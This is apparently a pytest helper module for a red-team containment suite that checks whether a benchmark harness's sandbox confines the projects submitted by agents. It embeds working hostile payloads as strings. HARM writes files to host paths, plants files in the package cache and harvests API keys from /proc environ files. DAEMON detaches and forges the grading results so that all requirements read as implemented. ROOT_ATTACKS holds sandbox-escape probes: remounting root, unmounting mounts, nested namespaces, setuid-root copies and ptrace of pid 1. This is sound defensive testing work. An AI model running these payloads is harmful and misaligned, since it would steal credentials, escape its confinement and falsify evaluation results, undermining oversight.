"""Shared by the tests (moved from test_containment.py)."""

from __future__ import annotations

import contextlib
import hashlib
import json
import os
import pwd
import shutil
import signal
import socket
import stat
import textwrap
import threading
import time
import uuid
from pathlib import Path

import pytest

import pytest_e2ebench
from helpers.batch import Batch, batch_folder
from helpers.env import UV_CACHE
from helpers.tasks import CALC_CODE

CHECKOUT = Path(pytest_e2ebench.__file__).resolve().parent.parent


REAL_HOME = Path(pwd.getpwuid(os.getuid()).pw_dir)  # pytester points HOME at its own folder


SECRET_PREFIX = "sk-e2eredteam-"


FAST = "[tests]\ntimeout = 5\n"


TIMEOUT = ("--e2e-timeout=60",)


BATCH_TIMEOUT = 1700  # one session of a TestBatch class: its first reader's setup (seconds)


HARM = r"""
def _harm(where):
    import json, os, socket, sys, time
    if os.environ.get("E2E_REDTEAM_HARMED"):
        return False  # a daemon's own interpreter (e.g. under a planted sitecustomize)
    cfg = json.loads(__CFG__)
    marker = cfg["marker"]
    for path in cfg["targets"]:
        try:
            with open(path, "w") as fh:
                fh.write(where)
        except BaseException:
            pass
    try:
        with open(cfg["canary"], "w") as fh:
            fh.write("poisoned from " + where)
    except BaseException:
        pass
    try:
        archives = os.path.join(cfg["cache"], "archive-v0")
        for entry in sorted(os.listdir(archives))[:400]:
            try:
                with open(os.path.join(archives, entry, marker + ".txt"), "w") as fh:
                    fh.write(where)
            except BaseException:
                pass
    except BaseException:
        pass
    for family, address in (
        (socket.AF_INET, ("127.0.0.1", cfg["port"])),
        (socket.AF_UNIX, cfg["unix"]),
        (socket.AF_UNIX, "\0" + marker),
    ):
        try:
            sock = socket.socket(family, socket.SOCK_STREAM)
            sock.settimeout(1)
            sock.connect(address)
            sock.sendall(where.encode())
            sock.close()
        except BaseException:
            pass
    leaks = set()
    value = os.environ.get("OPENAI_API_KEY", "")
    if value.startswith(cfg["prefix"]):
        leaks.add(value)
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except BaseException:
        pids = []
    for pid in pids:
        try:
            with open("/proc/%s/environ" % pid, "rb") as fh:
                for item in fh.read().split(b"\0"):
                    if item.startswith(b"OPENAI_API_KEY=" + cfg["prefix"].encode()):
                        leaks.add(item.split(b"=", 1)[1].decode())
        except BaseException:
            pass
    for leak in leaks:
        print("LEAKED", leak, flush=True)
        for folder in (os.getcwd(), cfg["suite_guess"]):
            try:
                with open(os.path.join(folder, "leak-" + marker + ".txt"), "w") as fh:
                    fh.write(leak)
            except BaseException:
                pass
    try:
        pid = os.fork()
        if pid == 0:
            try:
                os.setsid()
                if os.fork() == 0:
                    os.environ["E2E_REDTEAM_HARMED"] = "1"
                    os.execv(sys.executable, [sys.executable, "-c", __DAEMON__, __CFG__, marker])
            finally:
                os._exit(0)
        os.waitpid(pid, 0)
    except BaseException:
        pass
    return bool(leaks)
"""


# The daemon: lingers, and rewrites results.json (every requirement implemented) once written.
DAEMON = r"""
import json, os, sys, time
cfg = json.loads(sys.argv[1])
end = time.time() + 150
while time.time() < end:
    for path in cfg["targets"]:
        try:
            open(path, "a").close()
        except BaseException:
            pass
    try:
        with open(cfg["results"]) as fh:
            doc = json.load(fh)
        if cfg["marker"] not in json.dumps(doc):
            for run in doc.get("tasks", []):
                for req in run.get("requirements") or []:
                    req["verdict"] = "implemented"
            doc["forged_by"] = cfg["marker"]
            with open(cfg["results"], "w") as fh:
                json.dump(doc, fh)
    except BaseException:
        pass
    time.sleep(0.3)
"""


# path -> (its stat signature, its sha256) of the uv cache's unpacked wheels, per process: a file
# is hashed again only when its inode, size, mtime or ctime changed. No unprivileged process can
# change a file's bytes without its ctime moving (utime sets mtime back, never ctime), so the
# digest stays what a fresh hash would give; uv's hard-link installs move the ctime of the files
# they link, which costs a re-hash, not a false alarm. The cache holds ~60,000 files (1.8 GB
# here): hashed afresh twice per arena, they were most of a containment test's time.
_DIGESTS: dict[str, tuple[tuple[int, int, int, int], str]] = {}


def cached_digest(path: Path) -> str:
    """The sha256 of a regular file, from ``_DIGESTS`` while its stat signature is unchanged;
    ``LookupError`` for anything but a regular file."""
    st = os.lstat(path)
    if not stat.S_ISREG(st.st_mode):
        raise LookupError(path)
    signature = (st.st_ino, st.st_size, st.st_mtime_ns, st.st_ctime_ns)
    known = _DIGESTS.get(str(path))
    if known is not None and known[0] == signature:
        return known[1]
    with open(path, "rb") as fh:  # stat first: a later write re-hashes
        digest = hashlib.file_digest(fh, "sha256").hexdigest()
    _DIGESTS[str(path)] = (signature, digest)
    return digest


class Arena:
    """One attack's surroundings: markers, listeners, the uv cache canary, and the checks."""

    def __init__(
        self, root: Path, tasks, *, run: int = 0, secret: str = "", shared: dict | None = None
    ) -> None:
        """``run`` > 0: the variant graded as run ``run`` of a shared session (``ArenaBatch``),
        its submission in ``out/calc/run-<run>/``; else alone, in ``out/calc/`` as run 1.
        ``shared``: what the arenas of one session find alike (the uv cache before and after
        the session, the walk of their common folder for the secret and setuid files),
        computed once for all of them."""
        self.shared = {} if shared is None else shared
        self.graded_at: float | None = None  # when its session ended (time.monotonic)
        self.pytester: pytest.Pytester | None = None  # the arena fixture's, for grade()
        self.tasks = tasks
        self.root = root
        self.run_number = max(run, 1)
        self.tests: dict[str, str] | None = None  # the task's tests, if not CALC_TESTS (a batch's)
        self.marker = f"e2ebench-contain-{os.getpid()}-{uuid.uuid4().hex[:10]}"
        self.secret = secret or SECRET_PREFIX + uuid.uuid4().hex
        # the harness's uv cache, shared by every run and session (not a per-test one)
        self.cache = UV_CACHE
        self.out = self.root / "out" / "calc" / (f"run-{run}" if run else "")
        self.results_file = self.root / ".e2ebench" / "results.json"
        m = self.marker
        self.targets = [
            Path("/etc") / m,
            Path("/root") / m,
            Path("/var/tmp") / m,
            Path("/tmp") / m,
            Path("/dev/shm") / m,
            CHECKOUT / m,
            CHECKOUT / "pytest_e2ebench" / m,
            CHECKOUT / "pytest_e2ebench" / "probe" / m,
            self.cache / m,
            REAL_HOME / ".cache" / "pytest-e2ebench" / m,
            self.root / ".e2ebench" / m,
            self.root / "tasks" / m,
            self.root / "out" / m,
        ]
        self.connections: list[str] = []
        self._sockets: list[socket.socket] = []
        self.tcp = self._listen(socket.AF_INET, ("127.0.0.1", 0))
        self.port = self.tcp.getsockname()[1]
        run = Path("/run") if os.access("/run", os.W_OK) else Path("/var/tmp")
        self.unix_path = run / f"{m}.sock"
        self._listen(socket.AF_UNIX, str(self.unix_path))
        os.chmod(self.unix_path, 0o777)  # like many host daemons' sockets
        self._listen(socket.AF_UNIX, "\0" + m)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()
        self.canary = self.cache / f"{m}-canary"
        self.canary.write_text("canary")
        if "cache_before" not in self.shared:  # one snapshot for a session's arenas
            self.shared["cache_before"] = self._cache_snapshot()
        self.cache_before = self.shared["cache_before"]

    # listeners: accept and close at once (so a client never hangs), remembering who came
    def _listen(self, family, address) -> socket.socket:
        sock = socket.socket(family, socket.SOCK_STREAM)
        sock.bind(address)
        sock.listen(64)
        sock.settimeout(0.1)
        self._sockets.append(sock)
        return sock

    def _accept(self) -> None:
        while not self._stop.is_set():
            for sock in self._sockets:
                try:
                    conn, _ = sock.accept()
                except (TimeoutError, OSError):
                    continue
                with contextlib.suppress(OSError):
                    conn.settimeout(0.5)
                    data = conn.recv(200)
                    self.connections.append(f"{sock.getsockname()!r}: {data!r}")
                with contextlib.suppress(OSError):
                    conn.close()

    def _cache_snapshot(self) -> dict[str, str]:
        """The unpacked wheels (immutable once there; index metadata is refreshed legitimately)."""
        snap = {}
        for dirpath, _dirnames, filenames in os.walk(self.cache / "archive-v0"):
            for name in filenames:
                path = Path(dirpath, name)
                if "e2ebench-contain-" in name:  # this test's (checked apart) or a neighbour's
                    continue
                try:
                    snap[str(path.relative_to(self.cache))] = cached_digest(path)
                except (OSError, LookupError):
                    pass
        return snap

    def cfg(self) -> str:
        suite_guess = self.root / ".e2ebench" / "dir-out" / "calc" / f"run-{self.run_number}"
        return json.dumps(
            {
                "marker": self.marker,
                "targets": [str(t) for t in self.targets],
                "port": self.port,
                "unix": str(self.unix_path),
                "canary": str(self.canary),
                "cache": str(self.cache),
                "results": str(self.results_file),
                "prefix": SECRET_PREFIX,
                "suite_guess": str(suite_guess),
            }
        )

    def harm_source(self) -> str:
        """``_harm(where)`` as standalone source, configured for this test."""
        return HARM.replace("__DAEMON__", repr(DAEMON)).replace("__CFG__", repr(self.cfg()))

    def standalone(self, where: str, body: str = "") -> str:
        """Source that runs ``body`` then the harm (for setup.py, backends, planted modules)."""
        return f"{self.harm_source()}\n{body}\n_harm({where!r})\n"

    @property
    def repo(self) -> Path:
        """Where the harness puts the agent's project (the run's workspace)."""
        return self.root / ".e2ebench" / "dir-out" / "calc" / f"run-{self.run_number}" / "repo"

    # --- making and grading a submission ---------------------------------------------------

    def submit(
        self,
        *,
        attack: str | None = None,
        at_import: str = "",
        files: dict[str, str | bytes] | None = None,
        packaging: bool = True,
        tests: dict[str, str] | None = None,
        add: str | None = None,
    ) -> Path:
        """The calc project with ``add`` correct only if ``attack`` (a function body) is true."""
        self.tasks.make(toml_extra=FAST, tests=tests if tests is not None else self.tests)
        if add is None:
            body = textwrap.indent(attack or "return False", "    ")
            add = (
                "from ._harm import _harm\n\n"
                f"def _attack():\n{body}\n\n"
                "_OK = []\n\n"
                "def add(a, b):\n"
                "    if not _OK:\n"
                "        try:\n"
                "            _OK.append(bool(_attack()))\n"
                "        except BaseException:\n"
                "            _OK.append(False)\n"
                "        _harm('add')\n"
                "    return a + b if _OK[0] else a + b + 1\n"
            )
        out = self.tasks.reference(self.out, dict(CALC_CODE, add=add))
        (out / "calc" / "_harm.py").write_text(self.harm_source())
        if at_import:
            init = out / "calc" / "__init__.py"
            init.write_text(at_import + "\n" + init.read_text())
        if not packaging:
            (out / "pyproject.toml").unlink()
        for rel, content in (files or {}).items():
            path = out / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            if isinstance(content, bytes):
                path.write_bytes(content)
            else:
                path.write_text(content)
        return out

    def grade(
        self, *args: str, agents: tuple[str, ...] = ("dir:out",), subprocess: bool = False
    ) -> pytest.RunResult:
        # subprocess: a session of its own (a Ray driver starts one local cluster per process)
        run = self.pytester.runpytest_subprocess if subprocess else self.pytester.runpytest
        result = run(*(f"--e2e-agent={a}" for a in agents), "--e2e-tasks=tasks", *TIMEOUT, *args)
        self.graded_at = time.monotonic()
        return result

    def results(self) -> dict:
        return json.loads(self.results_file.read_text())

    def run(self, task: str = "calc") -> dict:
        runs = [
            r
            for r in self.results()["tasks"]
            if r["task"] == task and "dir" in r["agent"] and r["run"] == self.run_number
        ]
        assert runs, f"no record of the {task} run: it vanished (issue 11 class 8)"
        return runs[0]

    def verdicts(self, task: str = "calc") -> dict[str, str]:
        return {r["id"]: r["verdict"] for r in self.run(task)["requirements"]}

    def assert_r1_fails(self, forging: bool = False) -> dict:
        """R1 not implemented; for a forger that was caught, nothing implemented."""
        run = self.run()
        verdicts = self.verdicts()
        assert verdicts["R1"] == "not_implemented", (
            verdicts,
            run.get("test_run"),
            run.get("notes"),
        )
        containment = (run.get("test_run") or {}).get("containment") or []
        if forging and "tampered" in containment:
            assert set(verdicts.values()) == {"not_implemented"}, verdicts
        return run

    # --- what must hold after every session ------------------------------------------------

    def survivors(self) -> list[int]:
        found = []
        for entry in Path("/proc").iterdir():
            if entry.name.isdigit() and int(entry.name) != os.getpid():
                try:
                    if self.marker.encode() in (entry / "cmdline").read_bytes():
                        found.append(int(entry.name))
                except OSError:
                    pass
        return found

    def check(self) -> None:
        """Nothing escaped: no files outside, no daemons, no connections, cache untouched."""
        self._settle(1.0)  # a daemon that got out has had time to act
        problems = []
        survivors = self.survivors()
        if survivors:
            problems.append(f"processes survived the session: {survivors}")
        for path in self.targets:
            if os.path.lexists(path):
                problems.append(f"written outside the workspace: {path}")
        if self.results_file.exists() and self.marker in self.results_file.read_text():
            problems.append("results.json was rewritten by the project")
        self._settle(1.3)
        if self.connections:
            problems.append(f"host listeners reached: {self.connections}")
        if not self.canary.exists() or self.canary.read_text() != "canary":
            problems.append("the uv cache canary was altered")
        if "cache_after" not in self.shared:  # the first reader's, after the session
            self.shared["cache_after"] = self._cache_snapshot()
        after = self.shared["cache_after"]
        changed = [k for k, v in self.cache_before.items() if after.get(k) != v]
        if changed:
            problems.append(f"cached wheels changed or removed: {changed[:5]}")
        entries = {Path(k).parts[:2] for k in self.cache_before}
        added = [k for k in after if k not in self.cache_before and Path(k).parts[:2] in entries]
        if added:
            problems.append(f"files added to cached wheels: {added[:5]}")
        planted = [
            str(p) for p in (self.cache / "archive-v0").glob(f"*/{self.marker}*") if p.exists()
        ]
        if planted:
            problems.append(f"files dropped into cached wheels: {planted[:3]}")
        problems += self._secret_and_setuid()
        assert not problems, "\n".join(problems)

    def _settle(self, seconds: float) -> None:
        """Wait until ``seconds`` after the session's end: the readers of a shared session after
        the first find that time past and do not wait again."""
        if self.graded_at is None:
            time.sleep(seconds)
        else:
            time.sleep(max(0.0, self.graded_at + seconds - time.monotonic()))

    def _secret_and_setuid(self) -> list[str]:
        """The secret or a setuid-root file anywhere in the arena's folder: one walk for all
        the arenas of a session (they share the folder and the secret)."""
        if "secret_and_setuid" not in self.shared:
            self.shared["secret_and_setuid"] = self._walk_for_secret_and_setuid()
        return self.shared["secret_and_setuid"]

    def _walk_for_secret_and_setuid(self) -> list[str]:
        problems = []
        secret = self.secret.encode()
        for dirpath, _dirnames, filenames in os.walk(self.root):
            for name in filenames:
                path = Path(dirpath, name)
                try:
                    st = path.lstat()
                except OSError:
                    continue
                if not stat.S_ISREG(st.st_mode):
                    continue
                if st.st_mode & stat.S_ISUID and st.st_uid == 0:
                    problems.append(f"a setuid-root file appeared: {path}")
                if st.st_size < 8 << 20:
                    try:
                        if secret in path.read_bytes():
                            problems.append(f"the harness's secret leaked into {path}")
                    except OSError:
                        pass
        return problems

    def cleanup(self, walk: bool = True) -> None:
        """End what the attack left running or wrote outside; ``walk``: also remove the fills
        and setuid copies under the folder (the arenas of a batch share it: one walk does)."""
        self._stop.set()
        self._thread.join(timeout=5)
        for pid in self.survivors():
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGKILL)
        for sock in self._sockets:
            sock.close()
        for path in [*self.targets, self.unix_path, self.canary]:
            with contextlib.suppress(OSError):
                if path.is_dir() and not path.is_symlink():
                    shutil.rmtree(path)
                else:
                    path.unlink()
        for path in (self.cache / "archive-v0").glob(f"*/{self.marker}*"):
            with contextlib.suppress(OSError):
                path.unlink()
        # big fills and setuid copies must not outlive the test in pytest's kept folders
        for dirpath, _dirnames, filenames in os.walk(self.root) if walk else ():
            for name in filenames:
                if name.startswith(("fill-", "suid-")):
                    with contextlib.suppress(OSError):
                        os.unlink(os.path.join(dirpath, name))


@pytest.fixture
def arena(pytester, tasks, monkeypatch):
    made = Arena(pytester.path, tasks)
    made.pytester = pytester
    monkeypatch.setenv("OPENAI_API_KEY", made.secret)
    monkeypatch.setenv("UV_CACHE_DIR", str(made.cache))
    try:
        yield made
    finally:
        made.cleanup()


@contextlib.contextmanager
def arena_batch(request, tmp_path_factory, name: str, variants: list[str]):
    """One arena per variant, each graded as its own run of one shared session.

    Each variant keeps its own marker, listeners, canary and run folder, so each test checks
    its own harm after the session; they share the session's secret (one environment).
    The caller submits each variant, then grades them all with :func:`grade_batch`.
    """
    with batch_folder(request, tmp_path_factory, name) as root:
        batch = Batch(root)
        secret = SECRET_PREFIX + uuid.uuid4().hex
        shared: dict = {}
        arenas = {
            variant: Arena(root, batch.tasks, run=n, secret=secret, shared=shared)
            for n, variant in enumerate(variants, 1)
        }
        try:
            yield arenas
        finally:
            last = list(arenas.values())[-1]
            for made in arenas.values():
                made.cleanup(walk=made is last)


def grade_batch(arenas: dict) -> None:
    """Grade the submissions of an :func:`arena_batch` in one session."""
    first = next(iter(arenas.values()))
    env = {"OPENAI_API_KEY": first.secret, "UV_CACHE_DIR": str(UV_CACHE)}
    runs = f"--e2e-runs={len(arenas)}"
    # ~20 runs: minutes on a loaded machine (the session's runs are a minute each at load 25)
    Batch(first.root).run(
        "--e2e-agent=dir:out", "--e2e-tasks=tasks", *TIMEOUT, runs, env=env, timeout=BATCH_TIMEOUT
    )
    ended = time.monotonic()
    for made in arenas.values():
        made.graded_at = ended


def libc() -> str:
    return "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"


ROOT_ATTACKS = {
    # remount the (read-only) system or root read-write, then write host files
    "remount_rw": libc()
    + (
        "import subprocess\n"
        "ok = False\n"
        "for target in (b'/', b'/etc', b'/usr', b'/root', b'/var'):\n"
        "    ok |= libc.mount(b'none', target, None, 0x20 | 0x1000, None) == 0\n"
        "    ok |= libc.mount(b'none', target, None, 0x20, None) == 0\n"
        "for cmd in (['mount', '-o', 'remount,rw', '/'], ['mount', '-o', 'remount,rw,bind', '/']):\n"
        "    try:\n"
        "        ok |= subprocess.run(cmd, capture_output=True, timeout=5).returncode == 0\n"
        "    except Exception:\n"
        "        pass\n"
        "return ok\n"
    ),
    # unmount what hides the host (/tmp, the tasks folder), then read the reference
    "umount_hiding_mounts": libc()
    + (
        "import glob, subprocess\n"
        "for target in ('{TASKS}', '/tmp', '/proc', '/dev/shm', '/'):\n"
        "    libc.umount2(target.encode(), 2)\n"
        "    subprocess.run(['umount', '-l', target], capture_output=True)\n"
        "found = glob.glob('{TASKS}/calc/reference/calc/add.py')\n"
        "found += glob.glob('/tmp/pytest-of-*/pytest-*/*/tasks/calc/reference/calc/add.py')\n"
        "return bool(found)\n"
    ),
    # a nested user namespace: every capability again, inside it
    "nested_userns": libc()
    + (
        "import os, subprocess\n"
        "ok = False\n"
        "pid = os.fork()\n"
        "if pid == 0:\n"
        "    os._exit(0 if libc.unshare(0x10000000 | 0x20000) == 0 else 1)\n"
        "ok |= os.waitpid(pid, 0)[1] == 0\n"
        "for cmd in (['unshare', '-Ur', 'true'], ['unshare', '--user', '--map-root-user', "
        "'--mount', 'true'], ['bwrap', '--unshare-user', '--dev-bind', '/', '/', 'true']):\n"
        "    try:\n"
        "        ok |= subprocess.run(cmd, capture_output=True, timeout=5).returncode == 0\n"
        "    except Exception:\n"
        "        pass\n"
        "return ok\n"
    ),
    # a setuid-root binary left in a writable folder the host keeps
    "setuid_root_binary": (
        "import os, shutil, stat, sys\n"
        "path = os.path.join(os.getcwd(), 'suid-' + 'x')\n"
        "shutil.copy(sys.executable, path)\n"
        "try:\n"
        "    os.chown(path, 0, 0)\n"
        "except OSError:\n"
        "    pass\n"
        "os.chmod(path, 0o6755)\n"
        "st = os.stat(path)\n"
        "return st.st_uid == 0 and bool(st.st_mode & stat.S_ISUID)\n"
    ),
    # pid 1 of the sandbox (bubblewrap, root): its environment, its root, ptrace, signals
    "attack_pid1": libc()
    + (
        "import os, signal\n"
        "ok = False\n"
        "for probe in ('/proc/1/environ', '/proc/1/root/etc/shadow', '/proc/1/mem'):\n"
        "    try:\n"
        "        open(probe, 'rb').read(1)\n"
        "        ok = True\n"
        "    except OSError:\n"
        "        pass\n"
        "if libc.ptrace(16, 1, 0, 0) == 0:\n"
        "    libc.ptrace(17, 1, 0, 0)\n"
        "    ok = True\n"
        "try:\n"
        "    os.kill(1, 0)\n"
        "    ok = True\n"
        "except OSError:\n"
        "    pass\n"
        "return ok\n"
    ),
    # capabilities: chown/mknod/raw sockets/setuid(0)/sysctl writes
    "use_capabilities": (
        "import os, socket\n"
        "ok = False\n"
        "def tried(fn):\n"
        "    try:\n"
        "        fn()\n"
        "        return True\n"
        "    except OSError:\n"
        "        return False\n"
        "ok |= tried(lambda: os.mknod('blk', 0o600 | 0o60000, os.makedev(254, 0)))\n"
        "ok |= tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).close())\n"
        "ok |= tried(lambda: os.setuid(0)) and os.getuid() == 0 and os.geteuid() == 0 and "
        "tried(lambda: open('/proc/sys/kernel/hostname', 'w').write('x'))\n"
        "ok |= tried(lambda: open('/proc/sysrq-trigger', 'rb').close()) and os.access("
        "'/proc/sysrq-trigger', os.W_OK)\n"
        "pid = os.fork()\n"
        "if pid == 0:\n"
        "    os._exit(0 if tried(lambda: os.chroot('/tmp')) else 1)\n"
        "ok |= os.waitpid(pid, 0)[1] == 0\n"
        "return ok\n"
    ),
}


FILL_ADD = (
    "from . import _FILL_OK\n\n"
    "def add(a, b):\n"
    "    if _FILL_OK[0] is not True:\n"
    "        raise _FILL_OK[0]\n"
    "    return a + b\n"
)


def _bwrap() -> bool:
    try:
        from pytest_e2ebench.isolation.sandbox import resolve_mode

        return resolve_mode("auto")[0] == "bwrap"
    except Exception:  # noqa: BLE001 - no sandbox at all
        return False


NEEDS_BWRAP = pytest.mark.skipif(
    not _bwrap(), reason="needs bubblewrap (apt-get install bubblewrap)"
)
